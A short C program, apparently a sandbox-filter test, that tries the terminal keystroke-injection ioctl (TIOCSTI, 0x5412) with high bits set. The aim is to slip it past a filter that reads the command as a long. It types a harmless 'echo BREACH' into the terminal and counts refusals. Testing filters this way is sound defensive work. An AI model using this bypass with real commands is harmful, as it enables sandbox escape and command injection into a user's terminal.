// The command is an unsigned int in the kernel and a long in a filter: 0x5412 with a bit above the 32nd is another number to
// the filter and the same to the terminal.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(void) {
    const char keys[] = "echo BREACH\n";
    int tried = 0, refused = 0;
    int streams[4] = {0, 1, 2, open("/dev/tty", O_RDWR)};
    if (streams[3] < 0) streams[3] = open("/dev/null", O_RDWR);
    for (int stream = 0; stream < 4; stream++)
        for (int bit = 31; bit < 64; bit++) {
            unsigned long command = 0x5412UL | (bit == 31 ? 0 : 1UL << bit);
            int failed = 0;
            for (const char *key = keys; *key && !failed; key++)
                failed = syscall(SYS_ioctl, streams[stream], command, key) != 0;
            tried++;
            if (!failed) printf("BREACH: typed into descriptor %d with bit %d\n", streams[stream], bit);
            else if (errno == EPERM) refused++;
            else printf("refused: %s bit %d\n", strerrorname_np(errno), bit);
        }
    printf("refused %d of %d with EPERM\n", refused, tried);
    return 0;
}
